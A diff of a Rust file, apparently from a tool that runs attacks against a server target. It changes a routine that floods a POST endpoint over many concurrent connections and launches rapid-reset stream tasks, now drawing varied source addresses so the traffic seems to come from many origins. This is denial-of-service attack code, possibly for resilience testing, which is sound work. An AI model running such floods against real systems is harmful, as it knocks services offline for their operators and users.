@@ -7,7 +7,7 @@ use tokio::io::AsyncWriteExt;
 use tokio::task::JoinSet;
 
 use super::streams::rapid_resets;
-use crate::client::{address, connect, head};
+use crate::client::{connect, head};
 use crate::target::Target;
 use crate::{Future, Strike};
 
@@ -26,10 +26,11 @@ pub fn prepare(target: Arc<Target>) -> Future<Result<Strike, String>> {
         Ok(Box::pin(async move {
             let mut tasks = JoinSet::new();
             for _ in 0..AT_ONCE {
-                let (to, head) = (target.address, head("POST", "/user/tools", &key, "application/json", 1_000));
+                let (to, from) = (target.address, target.stranger(1));
+                let head = head("POST", "/user/tools", &key, "application/json", 1_000);
                 tasks.spawn(async move {
                     for number in 0..RESETS / AT_ONCE {
-                        if let Ok(mut stream) = connect(to, address(1)).await {
+                        if let Ok(mut stream) = connect(to, from).await {
                             if number % 4 == 0 {
                                 // An end of the server's is as good.
                                 let _ = stream.write_all(head.as_bytes()).await;
@@ -43,7 +44,7 @@ pub fn prepare(target: Arc<Target>) -> Future<Result<Strike, String>> {
                 });
             }
             for number in 0..CONNECTIONS {
-                tasks.spawn(rapid_resets(target.address, address(5_000 + number)));
+                tasks.spawn(rapid_resets(target.address, target.stranger(5_000 + number)));
             }
             while tasks.join_next().await.is_some() {}
         }) as Strike)
